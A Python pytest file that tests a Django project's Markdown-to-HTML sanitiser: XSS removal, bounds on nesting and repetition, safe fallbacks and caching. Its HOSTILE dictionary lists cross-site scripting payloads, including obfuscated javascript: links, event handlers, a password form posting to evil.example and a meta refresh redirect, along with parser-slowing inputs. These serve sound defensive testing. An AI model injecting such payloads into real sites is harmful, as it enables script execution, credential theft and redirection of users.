"""The choke point: no Markdown, however hostile, becomes anything but harmless HTML."""

import random
import re
from collections.abc import Iterator
from html import unescape

import markdown
import pytest
from django.utils.safestring import SafeString
from markdown.treeprocessors import Treeprocessor

from datasets.records.files import Tree
from datasets.words import markup
from datasets.words.markup import MOST_CHARACTERS, as_markdown, plain, problems, to_html

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "before <script src='https://evil.example/x.js'></script> after",
    "unclosed script": "<script>alert(1)",
    "nested script": "<scr<script></script>ipt>alert(1)</script>",
    "onclick": '<p onclick="alert(1)">press</p>',
    "onerror": "<img src=x onerror=alert(1)>",
    "javascript link": "[press](javascript:alert(1))",
    "javascript link in capitals": "[press](JaVaScRiPt:alert(1))",
    "javascript link with entities": "[press](java&#115;cript:alert(1))",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>press</a>",
    "javascript link with a line end": "<a href='java\nscript:alert(1)'>press</a>",
    "javascript link with an escaped tab": "<a href='java&#9;script:alert(1)'>press</a>",
    "javascript link after a control character": "<a href='&#1;javascript:alert(1)'>press</a>",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference": "[press][x]\n\n[x]: javascript:alert(1)",
    "data link": "[press](data:text/html,<script>alert(1)</script>)",
    "vbscript link": "[press](vbscript:msgbox)",
    "iframe": "<iframe src='https://evil.example/'></iframe>",
    "object": "<object data='https://evil.example/'></object>",
    "form": "<form action='https://evil.example/'><input name=password></form>",
    "style": "<style>body { display: none }</style>",
    "style attribute": '<p style="background: url(https://evil.example/)">x</p>',
    "image": "![tracked](https://evil.example/pixel.png)",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "comment": "<!-- <script> --><script>alert(1)</script>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "attribute in a title": '[x](https://example.org/ "\\" onmouseover=alert(1) \\"")',
    "code": "`<script>alert(1)</script>`",
}

TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^<>]*)>")
ATTRIBUTE = re.compile(r"""([a-zA-Z-]+)="([^"]*)\"""")


def scheme(address: str) -> str:
    """Return the scheme of `address` as a browser reads it (tabs and line ends are dropped first), or ""."""
    found = re.match(r"[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.-]*):", re.sub(r"[\t\r\n]", "", unescape(address)))
    return found[1].lower() if found else ""


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_but_harmless_elements_attributes_and_schemes_is_left(text: str) -> None:
    html = to_html(text)
    for element, attributes in TAG.findall(html):
        assert element in markup.ELEMENTS
        for name, value in ATTRIBUTE.findall(attributes):
            assert (element, name) in {("a", "href"), ("a", "title"), ("a", "rel")}
            assert name != "href" or scheme(value) in {"", *markup.SCHEMES}


def test_script_is_left_out_with_its_content() -> None:
    assert to_html("before <script>alert(1)</script> after") == "<p>before  after</p>"


def test_text_of_a_refused_link_stays() -> None:
    assert "press" in to_html("[press](javascript:alert(1))")


def test_code_is_shown_not_run() -> None:
    assert to_html("`<script>`") == "<p><code>&lt;script&gt;</code></p>"


def test_raw_html_is_cleaned_like_the_rest() -> None:
    assert to_html('<p class="x">a <em onclick="y()">b</em></p>') == "<p>a <em>b</em></p>"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *slanted*", "<p><strong>bold</strong> and <em>slanted</em></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("1. one", "<ol>\n<li>one</li>\n</ol>"),
        ("### Heading", "<h3>Heading</h3>"),
        ("# Too high", "Too high"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("Почка 肾 rein", "<p>Почка 肾 rein</p>"),
        ("", ""),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert to_html(text) == html


def test_outward_link_neither_tells_nor_recommends() -> None:
    assert to_html("[x](https://example.org/)") == (
        '<p><a href="https://example.org/" rel="nofollow noopener noreferrer">x</a></p>'
    )


def test_result_is_marked_safe() -> None:
    assert isinstance(to_html("x"), SafeString)


@pytest.fixture
def forgetful() -> Iterator[None]:
    """Render anew, and remember nothing of it."""
    markup._rendered.cache_clear()
    yield
    markup._rendered.cache_clear()


@pytest.mark.usefixtures("forgetful")
@pytest.mark.parametrize("failing", ["_renderer.markdown.convert", "nh3.clean"])
def test_a_library_that_fails_gives_plain_paragraphs(failing: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object, **kwargs: object) -> str:
        raise RuntimeError("no idea")

    monkeypatch.setattr(f"datasets.words.markup.{failing}", broken)
    assert to_html("<script>alert(1)</script>\n\n**b**") == ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><p>**b**</p>")


@pytest.mark.usefixtures("forgetful")
def test_a_text_that_fails_halfway_leaves_nothing_behind() -> None:
    class Failing(Treeprocessor):
        def run(self, root: object) -> None:
            raise RuntimeError("no idea")

    markup._renderer.markdown.treeprocessors.register(Failing(), "failing", 1)
    assert to_html("[a]: http://left.example/\n\n**b**") == ("<p>[a]: http://left.example/</p><p>**b**</p>")
    assert to_html("**b** [a]") == "<p><strong>b</strong> [a]</p>"


@pytest.mark.usefixtures("forgetful")
def test_no_text_is_rendered_otherwise_after_another() -> None:
    texts = [(mark * 60)[:400] for mark in MARKS] + ["[a]: http://a.example 'A'\n\n[a]", "[a] *b*", "<div>\n\n*a*"]
    for text in [*texts, *reversed(texts)]:
        alone = markdown.markdown(text, extensions=[markup.ShortLinks()], output_format="html")
        assert markup._renderer.markdown.reset().convert(text) == alone, text


def test_plain_paragraphs_keep_their_lines_and_characters() -> None:
    assert plain("a < b\r\nc & d\n \n\n\xa0“肾”\0\ud800") == (
        "<p>a &lt; b<br>c &amp; d</p><p>&nbsp;“肾”\ufffd\ufffd</p>"
    )


# What takes a bad parser long, or too deep, at the length that a description may have.
MARKS = [
    "1. ", "[", "> ", ">", "* ", "- ", "+ ", "#", "# ", "![", "*", "_", "_a", "*_", "*_a", "**a", "`", "`a", "<", "&",
    "\\", "\\`", "<div>", "<div>\n\n", "<b>", "</div>", "(", "[a](", "[a](<", "[a][", "[a](((", "![a](", '[a](b "',
    "<http://a.b> ", "<a@b.c>", "<!--", "<!-- -->", "<?", "<![CDATA[", "<!DOCTYPE ", '<a href="', "<x", "a\n=\n",
    "a\n-\n", "---\n", "[a]: http://a\n", "- a\n", "- a\n\n", "> - ", "1. > ", "- 1. > ", "a\n\n", "    a\n", "\t- a\n",
    "| a | b |\n", "a  \n", "肾脏", "😀", "&amp;", "&#x1", "\u0002klzzwxh:0001\u0003", "\0", "\xa0", " ", "\n", "word ",
    "x" * 3_000,
]  # fmt: skip


# Those of them on which python-markdown 3.11 spends more than ten times what it spends on words, or fails.
COSTLY = [
    "1. ", "[", "> ", ">", "+ ", "![", "*_", "*_a", "`a", "<", "<b>", "[a](", "[a](<", "[a][", "[a](((", "![a](",
    "<a@b.c>", "<![CDATA[", '<a href="', "<x", "a\n=\n", "a\n-\n", "---\n", "- a\n", "- a\n\n", "> - ", "1. > ",
    "- 1. > ", "a\n\n", "\\`",
]  # fmt: skip


@pytest.mark.parametrize("mark", MARKS, ids=lambda mark: repr(mark[:20]))
def test_no_repetition_fails(mark: str) -> None:
    sound(to_html((mark * MOST_CHARACTERS)[:MOST_CHARACTERS]))


@pytest.mark.parametrize("mark", COSTLY, ids=repr)
def test_costly_repetition_is_refused_and_shown_plain(mark: str) -> None:
    text = (mark * MOST_CHARACTERS)[:MOST_CHARACTERS]
    assert list(problems(text))
    assert to_html(text) == plain(text)


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n"])
def test_every_end_of_a_line_that_markdown_knows_is_counted(end: str) -> None:
    (message,) = problems(f"x{end}{'> ' * 1_400}")
    assert "deep" in message
    (message,) = problems(end.join("a" * 80))
    assert "has 80 lines" in message


def nested(levels: int, begin: str) -> str:
    return "\n".join("    " * level + f"{begin} a" for level in range(levels))


@pytest.mark.parametrize("begin", ["-", "*", "1.", ">"])
def test_levels_are_counted(begin: str) -> None:
    assert list(problems(nested(3, begin))) == []
    (message,) = problems(nested(6, begin))
    assert "6 deep; 4 are the most" in message
    (message,) = problems(f"{begin} " * 7)
    assert "7 deep" in message


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("1. " * 1_000, "has lists or quotations within each other, 1,000 deep; 4 are the most: nest less"),
        ("[" * 3_000, "has 3,000 times “[”; 20 are the most: put addresses into the entry's links"),
        ("a\n" * 100, "has 101 lines; 60 are the most"),
        ("<b>" * 21, "has 21 times “<”; 20 are the most: leave out HTML"),
        ("*a* " * 51, "has 102 times the marks"),
        ("\t" * 5 + "a", "5 deep"),
        (">" * 5, "5 deep"),
        ("> - 1. * + a", "5 deep"),
    ],
)
def test_a_message_names_the_bound_and_the_fix(text: str, message: str) -> None:
    assert any(message in told for told in problems(text))


@pytest.mark.parametrize(
    "text",
    [
        "A paragraph of words: *slanted*, **bold**, `code`, [a link](https://example.org/) and [0, 1).",
        "- one\n- two\n    - two and a half\n- three\n\n> said\n> again\n\n1. first\n2. second",
        "T1_weighted and T2_weighted, 5 > 4 < 6, R&D, 3-4, 1.5 T, - not a list",
        "* * *",
        "这是肾脏。\n\n" * 20,
        "",
    ],
)
def test_what_people_write_is_taken(text: str) -> None:
    assert list(problems(text)) == []


def test_every_description_of_the_catalogue_is_taken(tree: Tree) -> None:
    for place, record in tree.dataset:
        for row in record["descriptions"]:
            assert list(problems(row["description"])) == [], place


PIECES = [
    *MARKS[:-1],
    "\n",
    "\n\n",
    "    ",
    "]",
    "](b)",
    ")",
    '"',
    "a",
    "B ",
    "</b>",
    "http://x.org/",
    "javascript:",
    "|",
]


@pytest.mark.parametrize("seed", range(60))
def test_no_markdown_raises_and_what_comes_out_is_clean(seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311 - equal at each run
    for _ in range(10):
        length, few = chance.choice([20, 300, MOST_CHARACTERS, MOST_CHARACTERS + 500]), chance.sample(PIECES, 6)
        text = ""
        while len(text) < length:
            text += chance.choice(few)
        html = to_html(text)
        sound(html)
        assert len(html) <= 8 * len(text) + 2_000


def sound(html: str) -> None:
    """Hold HTML to be what the cleaner would make of it: nothing but harmless elements, attributes and schemes."""
    assert markup._clean(html) == html


@pytest.mark.usefixtures("forgetful")
def test_a_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    first = to_html("**once**")
    monkeypatch.setattr(markup.nh3, "clean", None)
    assert to_html("**once**") is first


@pytest.mark.usefixtures("forgetful")
def test_a_text_that_no_door_lets_in_is_not_remembered() -> None:
    to_html("x" * (MOST_CHARACTERS + 1))
    assert markup._rendered.cache_info().currsize == 0


def test_the_end_of_a_link_is_looked_for_so_far_and_no_further() -> None:
    assert to_html(f"[{'a' * 299}](https://example.org/)").startswith("<p><a ")
    assert to_html(f"[{'a' * 301}](https://example.org/)").startswith("<p>[")
    assert to_html(f"[a](https://example.org/{'b' * 900})").startswith("<p><a ")
    assert to_html(f"[a](https://example.org/{'b' * 1_000})").startswith("<p>[a](")


def test_a_reference_and_an_image_are_read_as_before() -> None:
    assert to_html("[a][b]\n\n[b]: https://example.org/") == (
        '<p><a href="https://example.org/" rel="nofollow noopener noreferrer">a</a></p>'
    )
    assert to_html("![x](https://example.org/x.png) y") == "<p> y</p>"


@pytest.mark.parametrize(
    "text",
    [
        "a_b_c is *new* [see](http://x)",
        "# 1",
        "1. first",
        "- x",
        "> y",
        "`code` \\ end",
        "<b>bold</b>",
        "A & B &amp; C",
        "3D_x 2*3*4",
    ],
)
def test_plain_text_as_markdown_shows_its_characters(text: str) -> None:
    assert to_html(as_markdown(text)) == plain(text)
